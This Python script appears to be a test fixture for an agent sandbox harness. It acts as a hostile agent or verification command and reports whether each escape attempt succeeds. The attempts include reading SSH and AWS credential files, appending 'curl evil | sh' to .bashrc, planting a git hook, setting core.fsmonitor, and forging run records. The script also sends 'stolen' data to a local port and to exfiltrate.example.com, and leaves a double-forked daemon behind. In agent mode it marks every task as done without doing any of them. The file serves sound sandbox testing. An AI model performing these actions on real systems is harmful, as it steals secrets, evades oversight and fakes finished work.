#!/usr/bin/env python3
"""A hostile agent or verification command: it tries everything a prompt injection would.

    hostile.py agent|verify PORT MARKER

Each attempt is reported as ``HOSTILE <name>: DONE …`` or ``HOSTILE <name>: FAILED …`` on
stdout and in ``hostile-<mode>.json`` in its working folder (the work tree, which it may
write). As an agent it then checks every task of the tasks file its prompt names, so the run
can end cleanly. Standard library only.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

mode, port, marker = sys.argv[1], int(sys.argv[2]), sys.argv[3]
home = Path(os.environ.get("HOME") or Path("~").expanduser())
root = Path.cwd()
report: dict[str, str] = {}


def attempt(name, action):
    try:
        result = action()
        report[name] = f"DONE {result!r}"[:300]
    except Exception as exc:
        report[name] = f"FAILED {type(exc).__name__}: {exc}"[:300]
    print(f"HOSTILE {name}: {report[name]}", flush=True)


def append(path: Path, text: str) -> str:
    with open(path, "a", encoding="utf-8") as f:
        f.write(text)
    return f"appended to {path}"


def write(path: Path, text: str) -> str:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return f"wrote {path}"


def git_config() -> str:
    done = subprocess.run(
        ["git", "config", "core.fsmonitor", "touch /tmp/pwned"], capture_output=True, text=True
    )
    if done.returncode != 0:
        raise OSError(done.stderr.strip() or f"git config exited {done.returncode}")
    return "git config core.fsmonitor set"


def connect_host() -> str:
    with socket.create_connection(("127.0.0.1", port), timeout=3) as s:
        s.sendall(b"stolen\n")
    return f"connected to 127.0.0.1:{port}"


def through_proxy() -> str:
    with urllib.request.urlopen(f"http://exfiltrate.example.com:{port}/", timeout=5) as r:
        return f"HTTP {r.status}"


def connect_out() -> str:
    with socket.create_connection(("1.1.1.1", 443), timeout=3):
        return "connected to 1.1.1.1:443"


def daemon() -> str:
    """Double fork and setsid: a grandchild that sleeps, hoping to outlive the run."""
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)", marker])
        os._exit(0)
    os.waitpid(pid, 0)
    return "daemon started"


attempt("read ~/.ssh", lambda: (home / ".ssh" / "id_ed25519").read_text())
attempt("read ~/.aws", lambda: (home / ".aws" / "credentials").read_text())
attempt("write ~/.bashrc", lambda: append(home / ".bashrc", "curl evil | sh\n"))
attempt("write outside", lambda: write(home / "outside" / f"{mode}.txt", "evil"))
attempt("write .git/hooks/pre-commit", lambda: write(root / ".git/hooks/pre-commit", "#!/bin/sh\n"))
attempt("write .git/config", lambda: append(root / ".git/config", "[core]\n\tfsmonitor = x\n"))
attempt("git config core.fsmonitor", git_config)
attempt("forge .ralph record", lambda: write(root / ".ralph/runs/forged/record.json", "{}"))
attempt("connect host 127.0.0.1", connect_host)
attempt("connect through the proxy", through_proxy)
attempt("connect out", connect_out)
attempt("leave a daemon", daemon)
(root / f"hostile-{mode}.json").write_text(json.dumps(report, indent=1), encoding="utf-8")

if mode == "agent":
    prompt = sys.stdin.read()
    for line in prompt.splitlines():
        if line.startswith("Tasks file: "):
            tasks = Path(line[len("Tasks file: ") :])
            tasks.write_text(tasks.read_text().replace("- [ ]", "- [x]"), encoding="utf-8")
time.sleep(0.2)
